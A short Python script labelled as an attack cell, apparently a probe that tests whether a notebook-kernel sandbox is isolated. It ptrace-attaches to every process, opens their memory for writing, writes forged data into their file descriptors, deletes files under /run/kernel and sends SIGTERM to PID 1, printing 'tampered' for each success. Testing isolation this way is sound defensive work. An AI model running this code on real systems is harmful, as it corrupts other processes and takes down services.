# Traces, signals and overwrites the processes that start kernels, and takes over their pipes and sockets.
# %% attack
import contextlib
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
for process in sorted({1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}):
    if libc.ptrace(16, process, None, None) == 0:
        print("tampered: traces", process)
    with contextlib.suppress(OSError), open(f"/proc/{process}/mem", "r+b"):
        print("tampered: memory of", process)
    with contextlib.suppress(OSError):
        for number in os.listdir(f"/proc/{process}/fd"):
            with open(f"/proc/{process}/fd/{number}", "w") as file:
                file.write('{"pid": 1}\n')
                print("tampered: wrote to", process, number)
for name in os.listdir("/run/sockets") if os.path.isdir("/run/sockets") else []:
    print("tampered: sees", name)
for name in os.listdir("/run/kernel") if os.path.isdir("/run/kernel") else []:
    with contextlib.suppress(OSError):
        os.unlink(f"/run/kernel/{name}")
        print("tampered: removed", name)
os.kill(1, signal.SIGTERM)
